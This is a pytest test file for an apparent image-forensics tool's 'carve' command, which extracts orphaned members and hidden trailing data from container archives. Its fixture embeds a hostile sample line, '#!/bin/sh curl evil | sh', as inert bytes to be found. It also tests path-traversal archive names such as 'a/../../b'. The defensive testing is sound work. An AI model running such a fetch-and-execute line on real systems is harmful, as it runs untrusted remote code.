"""``carve``: pieces written byte for byte, under names of their own, over nothing."""

import gzip
import hashlib
import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from imgforensics import analysis, carving, measuring
from imgforensics.archive import Archive
from imgforensics.errors import InputError, LimitError
from imgforensics.model import Digest, Span
from tests import builder
from tests.builder import Entry
from tests.evidence import HOSTILE, document, invoke, is_safe, refused

HIDDEN = b"#!/bin/sh\ncurl evil | sh\n"


@pytest.fixture
def archive(tmp_path: Path) -> Path:
    """An archive with an orphan, an orphan's part, and data behind its end."""
    entries = builder.crane([builder.ImageSpec()])
    lone = builder.go({"x": 1})
    entries.append(Entry("notes.txt", HIDDEN))
    entries.append(Entry(f"{builder.sha256(lone)}.json", lone))
    path = tmp_path / "image.tar"
    path.write_bytes(builder.tar(entries) + b"PK\x03\x04" + HIDDEN)
    return path


def carved(folder: Path) -> list[Any]:
    """What carved.json says, after every file was compared with it."""
    told = document((folder / "carved.json").read_text())
    files = told["files"]
    assert isinstance(files, list)
    for each in files:
        data = (folder / each["file"]).read_bytes()
        assert (len(data), f"sha256:{hashlib.sha256(data).hexdigest()}") == (each["size"], each["sha256"])
        assert stat.S_IMODE((folder / each["file"]).stat().st_mode) == 0o600
        assert set(each["file"]) <= set("0123456789abcdefghijklmnopqrstuvwxyz-.")
    assert {path.name for path in folder.iterdir()} == {"carved.json", *(each["file"] for each in files)}
    return files


def test_orphans_are_carved(archive: Path, tmp_path: Path) -> None:
    folder = tmp_path / "out"
    result = invoke("carve", archive, "--orphans", "-o", folder)
    assert result.exit_code == 0
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    files = carved(folder)
    assert {each["name"] for each in files} == {"notes.txt", f"{builder.sha256(builder.go({'x': 1}))}.json"}
    (notes,) = (each for each in files if each["name"] == "notes.txt")
    assert notes["file"] == f"{notes['index']:04}-sha256-{builder.sha256(HIDDEN)}.bin"
    assert (folder / notes["file"]).read_bytes() == HIDDEN
    assert archive.read_bytes()[notes["offset"] :][: notes["size"]] == HIDDEN
    assert (notes["why"], notes["space"]) == ("nothing refers to it", "tar")
    told = json.loads((folder / "carved.json").read_text())
    assert told["archive"]["sha256"] == builder.digest(archive.read_bytes())
    assert result.stdout.splitlines()[-1] == f"2 files, {len(HIDDEN) + 7} bytes, and carved.json: {folder}"


def test_data_behind_the_end_is_carved(archive: Path, tmp_path: Path) -> None:
    assert invoke("carve", archive, "--trailing", "-o", tmp_path / "out").exit_code == 0
    (piece,) = carved(tmp_path / "out")
    assert (tmp_path / "out" / piece["file"]).read_bytes() == b"PK\x03\x04" + HIDDEN
    assert (piece["index"], piece["name"], piece["kind"]) == (None, None, "trailing")
    assert piece["file"].startswith("trailing-0000-sha256-")


def test_data_behind_the_compressed_stream_is_carved_from_the_file(tmp_path: Path) -> None:
    path = tmp_path / "image.tar.gz"
    packed = gzip.compress(builder.archive("crane"), mtime=0)
    path.write_bytes(packed + HIDDEN)
    assert invoke("carve", path, "--trailing", "-o", tmp_path / "out").exit_code == 0
    (piece,) = carved(tmp_path / "out")
    assert (piece["space"], piece["offset"], piece["size"]) == ("file", len(packed), len(HIDDEN))
    result = invoke("carve", "-", "--trailing", "-o", tmp_path / "no", stdin=path.read_bytes())
    refused(result, "standard input")
    assert not (tmp_path / "no").exists()


def test_members_behind_the_end_are_carved_as_trailing(tmp_path: Path) -> None:
    path = tmp_path / "image.tar"
    whole = builder.archive("crane")
    path.write_bytes(whole + builder.tar([Entry("evil", HIDDEN), Entry("empty", b"")]))
    assert invoke("carve", path, "--trailing", "-o", tmp_path / "out").exit_code == 0
    (piece,) = carved(tmp_path / "out")
    assert (piece["name"], piece["why"]) == ("evil", "it stands behind an end marker")
    assert (tmp_path / "out" / piece["file"]).read_bytes() == HIDDEN


def test_a_skippable_frame_around_the_archive_is_found_and_carved(tmp_path: Path) -> None:
    path = tmp_path / "image.tar.zst"
    frame = b"\x50\x2a\x4d\x18" + len(HIDDEN).to_bytes(4, "little") + HIDDEN
    path.write_bytes(builder.zstd(builder.archive("crane")) + frame)
    report = json.loads(invoke("verify", path, "-f", "json").stdout)
    assert [each["code"] for each in report["archives"][0]["findings"] if each["severity"] != "note"] == ["IMG103"]
    assert invoke("carve", path, "--trailing", "-o", tmp_path / "out").exit_code == 0
    (piece,) = carved(tmp_path / "out")
    assert (tmp_path / "out" / piece["file"]).read_bytes() == HIDDEN


def test_members_are_carved_as_stored(archive: Path, tmp_path: Path) -> None:
    data = archive.read_bytes()
    result = invoke("carve", archive, "--member", "@0", "--member", "@1", "--member", "@0", "-o", tmp_path / "out")
    assert result.exit_code == 0
    files = carved(tmp_path / "out")
    assert [each["index"] for each in files] == [0, 1]
    for each in files:
        assert (tmp_path / "out" / each["file"]).read_bytes() == data[each["offset"] :][: each["size"]]


def test_every_member_of_a_name_is_carved_and_what_is_asked_twice_is_written_once(tmp_path: Path) -> None:
    entries = [*builder.crane([builder.ImageSpec()]), Entry("x", b"1"), Entry("x", b"2"), Entry("y", b"")]
    path = tmp_path / "image.tar"
    path.write_bytes(builder.tar(entries))
    assert invoke("carve", path, "--member", "x", "--member", "y", "--orphans", "-o", tmp_path / "out").exit_code == 0
    assert [(each["name"], each["size"]) for each in carved(tmp_path / "out")] == [("x", 1), ("x", 1), ("y", 0)]


@pytest.mark.parametrize("name", [*HOSTILE, "carved.json", "con", ".", "a/../../b"])
def test_no_name_of_an_archive_is_ever_a_path(tmp_path: Path, name: str) -> None:
    entries = [*builder.crane([builder.ImageSpec()]), Entry("plain", HIDDEN, pax={"path": name})]
    inner = tmp_path / "inner"
    inner.mkdir()
    (inner / "image.tar").write_bytes(builder.tar(entries))
    number = len(entries) - 1
    result = invoke("carve", inner / "image.tar", "--member", f"@{number}", "-o", inner / "out")
    assert result.exit_code == 0
    assert is_safe(result.stdout)
    (piece,) = carved(inner / "out")
    assert (inner / "out" / piece["file"]).read_bytes() == HIDDEN
    assert {path.name for path in tmp_path.rglob("*")} == {"inner", "image.tar", "out", "carved.json", piece["file"]}


def test_a_cut_member_is_carved_as_far_as_it_is_there(tmp_path: Path) -> None:
    path = tmp_path / "image.tar"
    path.write_bytes(builder.tar([*builder.crane([builder.ImageSpec()]), Entry("big", b"x" * 5000)])[:-3000])
    assert invoke("carve", path, "--member", "big", "-o", tmp_path / "out").exit_code == 0
    (piece,) = carved(tmp_path / "out")
    assert piece["cut_off"]
    assert piece["size"] < 5000


def test_what_is_not_there_is_no_answer_and_leaves_nothing(archive: Path, tmp_path: Path) -> None:
    clean = tmp_path / "clean.tar"
    clean.write_bytes(builder.archive("crane"))
    folder = tmp_path / "out"
    refused(invoke("carve", clean, "--orphans", "-o", folder), "no member is an orphan")
    refused(invoke("carve", clean, "--trailing", "-o", folder), "nothing but zeros lies behind the end")
    refused(invoke("carve", clean, "--member", "@0", "--trailing", "-o", folder), "nothing but zeros")
    refused(invoke("carve", clean, "--member", "nope", "-o", folder), "no member 'nope'")
    refused(invoke("carve", clean, "-o", folder), "carve what?")
    refused(invoke("carve", tmp_path / "gone.tar", "--orphans", "-o", folder), "gone.tar: No such file")
    refused(invoke("carve", tmp_path, "--orphans", "-o", folder), "one archive is wanted here")
    assert not folder.exists()
    assert invoke("carve", clean, "--orphans").exit_code == 2


def test_a_link_holds_no_bytes(tmp_path: Path) -> None:
    same = builder.two_layers()[0]
    entries = builder.docker_legacy([builder.ImageSpec(layers=[same, same])])
    path = tmp_path / "image.tar"
    path.write_bytes(builder.tar(entries))
    number = next(index for index, entry in enumerate(entries) if entry.type == b"2")
    refused(invoke("carve", path, "--member", f"@{number}", "-o", tmp_path / "out"), "a symlink, which holds no bytes")


def test_nothing_is_written_over(archive: Path, tmp_path: Path) -> None:
    folder = tmp_path / "out"
    assert invoke("carve", archive, "--orphans", "-o", folder).exit_code == 0
    before = {path.name: path.read_bytes() for path in folder.iterdir()}
    refused(invoke("carve", archive, "--orphans", "-o", folder), "is not empty; nothing is ever written over")
    refused(invoke("carve", archive, "--trailing", "-o", folder), "is not empty")
    assert {path.name: path.read_bytes() for path in folder.iterdir()} == before
    refused(invoke("carve", archive, "--orphans", "-o", archive), "is there, and no folder")
    refused(invoke("carve", archive, "--orphans", "-o", tmp_path / "no" / "such"), "No such file or directory")
    for name in ("", "-"):
        refused(invoke("carve", archive, "--orphans", "-o", name), f"{name!r} is no folder")


def test_a_link_is_never_followed(archive: Path, tmp_path: Path) -> None:
    target = tmp_path / "target"
    target.mkdir()
    for link, to in (("link", target), ("dangling", tmp_path / "nowhere")):
        (tmp_path / link).symlink_to(to)
        for end in ("", "/", "/.", "//./"):
            refused(invoke("carve", archive, "--orphans", "-o", f"{tmp_path / link}{end}"), "is a link")
    assert not list(target.iterdir())
    assert not (tmp_path / "nowhere").exists()


@pytest.mark.parametrize("end", ["", "/", "/./"])
def test_an_empty_folder_may_be_used_and_is_made_private(archive: Path, tmp_path: Path, end: str) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    folder.chmod(0o777)
    assert invoke("carve", archive, "--orphans", "-o", f"{folder}{end}").exit_code == 0
    assert len(carved(folder)) == 2
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


def test_a_folder_that_was_made_private_in_vain_is_as_it_was(
    archive: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    folder.chmod(0o777)
    with monkeypatch.context() as patched:
        patched.setattr(os, "geteuid", lambda: folder.stat().st_uid + 1)
        refused(invoke("carve", archive, "--orphans", "-o", folder), "belongs to somebody else")
    monkeypatch.setattr(os, "fsync", lambda _: os.close(-1))
    refused(invoke("carve", archive, "--orphans", "-o", folder), "cannot be written")
    assert (stat.S_IMODE(folder.stat().st_mode), list(folder.iterdir())) == (0o777, [])


def test_an_answer_that_cannot_be_told_leaves_what_was_written(
    archive: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_: object) -> None:
        raise InputError("standard output cannot be written")

    monkeypatch.setattr("imgforensics.output.Sink.write", fail)
    refused(invoke("carve", archive, "--orphans", "-o", tmp_path / "out"), "standard output cannot be written")
    assert len(carved(tmp_path / "out")) == 2


def test_a_file_that_appears_meanwhile_is_spared_and_what_was_written_is_removed(archive: Path, tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    trap = tmp_path / "trap"
    with Archive(str(archive)) as opened:

        def manifest(_: object) -> str:
            (folder / carving.MANIFEST).symlink_to(trap)
            return "{}"

        with pytest.raises(InputError, match="cannot be written"):
            carving.carve(opened, str(archive), [carving.Piece(Span(0, 512), "a test")], str(folder), manifest)
    assert [path.name for path in folder.iterdir()] == [carving.MANIFEST]
    assert not trap.exists()


def test_a_failure_leaves_no_folder(archive: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", fail)
    refused(invoke("carve", archive, "--orphans", "-o", tmp_path / "out"), "No space left on device")
    assert not (tmp_path / "out").exists()


def test_bytes_that_change_on_the_way_are_noticed(archive: Path, tmp_path: Path) -> None:
    reads = iter([b"a" * 512, b"b" * 512])

    class Changing(Archive):
        def chunks(self, offset: int, length: int, most: int | None = None) -> Any:
            yield memoryview(next(reads))

    with Changing(str(archive)) as opened, pytest.raises(InputError, match="does not hold what was read"):
        carving.carve(
            opened, str(archive), [carving.Piece(Span(0, 512), "a test")], str(tmp_path / "out"), lambda _: ""
        )
    assert not (tmp_path / "out").exists()


def test_pieces_are_bounded(archive: Path, tmp_path: Path) -> None:
    size = archive.stat().st_size
    pieces = [carving.Piece(Span(number, size), "a test") for number in range(3)]
    with Archive(str(archive)) as opened, pytest.raises(LimitError, match="overlap"):
        carving.carve(opened, str(archive), pieces, str(tmp_path / "out"), lambda _: "")
    assert not (tmp_path / "out").exists()


def test_the_answer_is_told_as_json_or_not_at_all(archive: Path, tmp_path: Path) -> None:
    result = invoke("carve", archive, "--orphans", "-o", tmp_path / "one", "-f", "json")
    assert result.stdout == (tmp_path / "one" / "carved.json").read_text()
    document(result)
    assert invoke("carve", archive, "--orphans", "-o", tmp_path / "two", "-q").stdout == ""
    assert invoke("carve", archive, "--orphans", "-o", tmp_path / "four", "-q", "-f", "json").stdout == ""
    assert invoke("carve", "-", "--trailing", "-o", tmp_path / "three", stdin=archive.read_bytes()).exit_code == 0


def rewriting(path: Path, old: bytes, new: bytes) -> Any:
    """A measurement behind which the file is rewritten in place, its time set back."""
    measure = measuring.measure

    def measured(*arguments: Any, **options: Any) -> Any:
        catalogue = measure(*arguments, **options)
        before, data = path.stat(), path.read_bytes()
        with path.open("r+b") as stream:
            stream.write(data.replace(old, new))
        os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
        return catalogue

    return measured


@pytest.mark.parametrize(
    "what", [["--orphans"], ["--trailing"], ["--member", "notes.txt"], ["--member", "manifest.json"]]
)
def test_nothing_is_carved_from_a_file_that_was_rewritten(
    archive: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, what: list[str]
) -> None:
    monkeypatch.setattr(analysis, "measure", rewriting(archive, HIDDEN, HIDDEN.upper()))
    refused(invoke("carve", archive, *what, "-o", tmp_path / "out"), "the file changed while it was read")
    assert not (tmp_path / "out").exists()


def test_measured_digests_are_held_against_what_is_carved(archive: Path, tmp_path: Path) -> None:
    with Archive(str(archive)) as opened:
        piece = carving.Piece(Span(0, 512), "a test", digest=Digest.of(b"other"))
        with pytest.raises(InputError, match="changed while it was read"):
            carving.carve(opened, str(archive), [piece], str(tmp_path / "out"), lambda _: "")
    assert not (tmp_path / "out").exists()


def test_nothing_else_is_told_of_a_file_that_was_rewritten(
    archive: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    other = tmp_path / "other.tar"
    other.write_bytes(builder.archive("crane", builder.ImageSpec(tags=["other:1"])))
    monkeypatch.setattr(analysis, "measure", rewriting(archive, HIDDEN, HIDDEN.upper()))
    for arguments in (["--member", "notes.txt"], ["--files"], ["--layers"], ["--files", "-f", "json"]):
        result = invoke("inspect", archive, *arguments, "-o", tmp_path / "out")
        refused(result, "the file changed while it was read")
        assert not (tmp_path / "out").exists()
    refused(invoke("diff", other, archive), "the file changed while it was read")
    digest = f"sha256:{'5' * 64}"
    refused(invoke("digest", archive, "--raw", "--no-ledger"), "the file changed while it was read")
    told = invoke("verify", archive, "--expect", digest, "--no-ledger", "-f", "json")
    assert (told.exit_code, json.loads(told.stdout)["archives"][0]["verdict"]) == (2, "unreadable")
